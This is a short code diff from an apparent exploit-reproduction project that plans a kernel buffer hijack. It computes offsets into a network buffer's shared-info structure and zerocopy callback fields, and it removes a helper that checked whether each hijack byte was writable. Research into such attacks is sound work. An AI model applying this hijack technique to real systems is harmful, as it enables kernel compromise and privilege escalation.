@@ -18,7 +18,7 @@ from __future__ import annotations
 
 from dataclasses import dataclass
 
-from repro.core.attacks.payload import UBUF_PAYLOAD_SIZE, build_attack_blob
+from repro.core.attacks.payload import build_attack_blob
 from repro.core.attacks.window import BufferWriteWindow
 from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
 from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
@@ -48,15 +48,6 @@ def plan_hijack(buffer_kva: int, buf_size: int, *,
         ubuf_offset=ubuf_offset,
         shared_info_offset=skb_shared_info_offset(buf_size),
         ubuf_kva=buffer_kva + ubuf_offset)
-
-
-def hijack_is_feasible(window: BufferWriteWindow, plan: HijackPlan) -> bool:
-    """Probe (without writing) that every hijack byte is reachable."""
-    return (window.can_write_range(plan.ubuf_offset, UBUF_PAYLOAD_SIZE)
-            and window.can_write_range(
-                plan.shared_info_offset + _TX_FLAGS_OFF, 1)
-            and window.can_write_range(
-                plan.shared_info_offset + _DESTRUCTOR_ARG_OFF, 8))
 
 
 def execute_hijack(window: BufferWriteWindow, plan: HijackPlan) -> str:
